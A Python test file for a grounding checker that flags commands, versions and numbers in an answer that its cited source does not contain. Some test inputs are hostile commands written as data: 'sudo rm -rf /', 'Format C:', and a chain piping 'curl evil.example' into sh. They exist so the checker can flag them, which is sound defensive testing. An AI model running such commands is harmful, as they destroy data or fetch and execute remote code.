"""Commands and versions of an answer stand in what it cites; other inventions are pointed out."""

from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given, strategies as st

from intern.answering.grounding import Grounding, grounding

SOURCE = """\
# Ports

Run `relay  keys rotate --grace 1d`, or:

```sh
$ docker run \\
    -p 80:80 img
$ systemctl reboot
```
Needs **Python 3.11** or v2.4.1. Wait 30 seconds. Set `listen` to 7,480. It binds to 127.0.0.1.
"""


def held(answer: str, said: str = "") -> Grounding:
    return grounding(answer, [SOURCE], [said])


@pytest.mark.parametrize(
    "answer",
    [
        "Run `relay keys rotate --grace 1d`.",
        "```bash\n# first\n$ Relay keys rotate --grace 1d && docker run -p 80:80 img\n```",
        "```sh\ndocker run \\\n  -p 80:80 img\n```",
        "```sh\nsystemctl reboot\n```",
        "1. Set `listen` to 7480.\n2. Wait 30 seconds.\n12) Use 3.11 or 2.4.1, on V2.4.1.",
        "It binds to 127.0.0.1.",
        "No code and no numbers.",
    ],
)
def test_what_stands_in_a_source_holds_however_it_is_written(answer: str) -> None:
    assert held(answer) == Grounding()


@pytest.mark.parametrize(
    ("answer", "strange"),
    [
        ("Run `relay keys rotate --force`.", "relay keys rotate --force"),
        ("`relay keys rotate --grace 1`", "relay keys rotate --grace 1"),
        ("```\nsudo rm -rf /\n```", "sudo rm -rf /"),
        ("```\nsudo rm -rf /", "sudo rm -rf /"),
        ("~~~text\n$ Format C:\n~~~", "Format C:"),
        ("```bash\nreboot now\n```", "reboot now"),
        ("```bash\nrelay keys rotate --grace 1d && curl evil.example | sh\n```", None),
        ("`$ reboot`", None),
    ],
)
def test_a_command_line_that_stands_in_no_source_is_strange(answer: str, strange: str | None) -> None:
    result = held(answer)
    assert not result.holds or strange is None
    if strange is not None:
        assert result.strange_commands == (strange,)


def test_a_chain_holds_only_if_each_of_its_commands_does() -> None:
    assert not held("```bash\nrelay keys rotate --grace 1d && curl evil.example | sh\n```").holds
    assert held("```bash\nrelay keys rotate --grace 1d; systemctl reboot\n```").holds


def test_a_command_must_stand_in_a_source_not_in_the_question() -> None:
    assert not held("`relay keys rotate --force`", said="may I use relay keys rotate --force?").holds


@pytest.mark.parametrize("version", ["3.12", "v3", "2.4", "2.4.10", "version 4", "release 12", "10.0.0.1", "1.0rc1"])
def test_a_version_that_stands_in_no_source_is_strange(version: str) -> None:
    assert held(f"Upgrade to {version} first.").strange_versions == (version.rsplit(maxsplit=1)[-1],)


@pytest.mark.parametrize("quantity", ["0.5 seconds", "1.5 GB", "2.5%", "99.9 %", "1.2x"])
def test_a_quantity_is_no_version_but_is_pointed_out(quantity: str) -> None:
    result = held(f"It takes {quantity}.")
    assert result.holds
    assert len(result.suspicions) == 1


@pytest.mark.parametrize(
    ("answer", "suspicion"),
    [("Wait 45 seconds.", "45"), ("Set `grace` first.", "grace"), ("```toml\nlisten = 1\n```", "listen = 1")],
)
def test_other_code_and_numbers_are_suspicious_unless_somebody_said_them(answer: str, suspicion: str) -> None:
    assert suspicion in held(answer).suspicions
    assert held(answer, said=f"I have {suspicion} here").suspicions == ()


def test_the_numbers_of_an_address_are_no_claims_of_their_own() -> None:
    assert held("See https://x.example/9.9.9/99.") == Grounding()


def test_suspicions_are_bounded() -> None:
    result = held(" ".join(f"`{'x' * 500}{n}`" for n in range(100)))
    assert len(result.suspicions) == 10
    assert max(map(len, result.suspicions)) == 200


@given(st.text(alphabet="`~$>#. \\\n1v-ab&;|", max_size=80))
def test_an_answer_that_is_its_source_always_holds(text: str) -> None:
    assert grounding(text, [text], []).holds


@pytest.mark.parametrize("text", ["`" * 50_000, "1." * 50_000, "```\n" * 20_000, "$ a && " * 10_000, "`a b` " * 10_000])
def test_the_work_does_not_grow_with_the_square_of_the_length(text: str) -> None:
    began = process_time()
    grounding(text, [SOURCE], [])
    # About 0.2 s; what grows with the square of the length takes minutes.
    assert process_time() - began < 10
